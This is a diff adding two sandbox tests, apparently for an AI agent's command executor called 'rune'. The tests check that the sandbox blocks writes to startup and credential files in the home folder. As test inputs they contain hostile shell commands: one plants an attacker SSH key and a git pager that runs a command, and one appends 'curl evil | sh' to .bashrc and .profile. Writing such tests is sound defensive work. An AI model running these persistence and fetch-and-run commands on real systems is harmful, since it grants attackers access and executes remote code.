@@ -542,6 +542,50 @@ for fam, typ, proto in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET,
     },
   },
   {
+    // Hidden and read-only paths are mounted over, and only what exists can be: with the home
+    // folder writable and no ~/.ssh yet, an authorized_keys planted there would let anyone log in,
+    // and a new ~/.gitconfig or ~/.config/git/config runs the command's program on the person's
+    // next git command. What the call created of them is moved aside after it.
+    name: 'plant ~/.ssh/authorized_keys, ~/.gitconfig and ~/.config/git/config in a writable home that has none yet',
+    layer: 'executor',
+    run: async () => {
+      const fresh = join(root, `home-absent-${mode}`);
+      mkdirSync(fresh, { recursive: true });
+      const r = await sandbox(
+        'mkdir -p "$HOME/.ssh" && echo "ssh-ed25519 AAAA attacker" > "$HOME/.ssh/authorized_keys"; printf "[core]\\n\\tpager = touch /tmp/pwned\\n" > "$HOME/.gitconfig"; mkdir -p "$HOME/.config/git" && cp "$HOME/.gitconfig" "$HOME/.config/git/config"; echo kept > "$HOME/notes.txt"; echo done',
+        { flags: ['--allow-write', fresh], env: { HOME: fresh } },
+      );
+      expect(r.stdout).toContain('done');
+      expect(existsSync(join(fresh, '.ssh', 'authorized_keys'))).toBe(false);
+      expect(existsSync(join(fresh, '.gitconfig'))).toBe(false);
+      expect(existsSync(join(fresh, '.config', 'git', 'config'))).toBe(false);
+      // The rest of what the call wrote stays, and both the model and the person are told.
+      expect(readFileSync(join(fresh, 'notes.txt'), 'utf8')).toBe('kept\n');
+      expect(readFileSync(join(fresh, '.ssh.rune-rejected', 'authorized_keys'), 'utf8')).toContain(
+        'attacker',
+      );
+      expect(r.stderr).toMatch(/\.ssh: created by the command; \S+ moved to \S+\.ssh\.rune-rejected/);
+    },
+  },
+  {
+    name: 'append to an existing ~/.bashrc and ~/.profile in a writable home',
+    layer: 'namespaces',
+    fallback: { lost: /hidden or protected paths inside writable grants/ },
+    run: async () => {
+      const fresh = join(root, `home-startup-${mode}`);
+      mkdirSync(fresh, { recursive: true });
+      writeFileSync(join(fresh, '.bashrc'), '# mine\n');
+      writeFileSync(join(fresh, '.profile'), '# mine\n');
+      const r = await sandbox(
+        'echo "curl evil | sh" >> "$HOME/.bashrc"; echo "curl evil | sh" >> "$HOME/.profile"; mv "$HOME/.profile" "$HOME/p"; echo done',
+        { flags: ['--allow-write', fresh], env: { HOME: fresh } },
+      );
+      expect(r.stdout).toContain('done');
+      expect(readFileSync(join(fresh, '.bashrc'), 'utf8')).toBe('# mine\n');
+      expect(readFileSync(join(fresh, '.profile'), 'utf8')).toBe('# mine\n');
+    },
+  },
+  {
     // rune's own folder holds rune.toml with the API key, sessions and the audit log.
     name: "rune's own config (~/.rune/rune.toml) while the home folder is readable or writable",
     layer: 'namespaces',
